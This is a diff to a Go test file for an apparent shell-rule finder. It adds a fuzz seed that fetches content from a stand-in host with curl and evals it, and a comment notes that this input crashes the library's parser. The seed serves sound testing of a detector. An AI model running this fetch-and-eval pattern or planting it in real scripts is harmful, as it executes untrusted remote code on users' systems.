@@ -13,4 +13,7 @@ var finder = ruletest.Finder(Find)
 
 func TestRules(t *testing.T) { finder.Rules(t, "shell-", Rules()) }
 
-func FuzzFind(f *testing.F) { finder.Fuzz(f, Rules()) }
+func FuzzFind(f *testing.F) {
+	f.Add(`X=$((curl-s x.example); eval "$X"`) // the library's parser panics
+	finder.Fuzz(f, Rules())
+}
